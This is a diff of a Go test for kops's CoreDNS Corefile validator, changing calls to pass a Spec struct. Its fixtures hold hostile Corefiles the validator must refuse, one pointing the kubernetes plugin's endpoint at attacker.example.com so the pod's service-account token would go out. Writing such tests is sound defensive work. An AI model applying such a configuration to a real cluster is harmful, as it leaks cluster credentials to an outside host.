@@ -12,7 +12,7 @@ import (
 // CoreDNS's token (the kubernetes plugin pointed at another API server, a file of the pod) is
 // refused before anything is applied, whoever wrote it into the CoreDNS object.
 func TestCheckCorefile(t *testing.T) {
-	assert.NoError(t, checkCorefile(coredns.Corefile(nil)), "kops's own")
+	assert.NoError(t, checkCorefile(Spec{Corefile: coredns.Corefile(nil)}), "kops's own")
 	for name, text := range map[string]string{
 		"kubeconfig": ".:53 {\n    kubernetes cluster.local {\n        kubeconfig /var/run/secrets/kubernetes.io/serviceaccount/kubeconfig ctx\n    }\n}\n",
 		"endpoint":   ".:53 {\n    kubernetes cluster.local {\n        endpoint https://attacker.example.com\n    }\n}\n",
@@ -20,7 +20,7 @@ func TestCheckCorefile(t *testing.T) {
 		"not a file": ".:53 {\n    forward . 8.8.8.8\n",
 	} {
 		t.Run(name, func(t *testing.T) {
-			assert.ErrorContains(t, checkCorefile(text), "spec.corefile")
+			assert.ErrorContains(t, checkCorefile(Spec{Corefile: text}), "spec.corefile")
 		})
 	}
 }
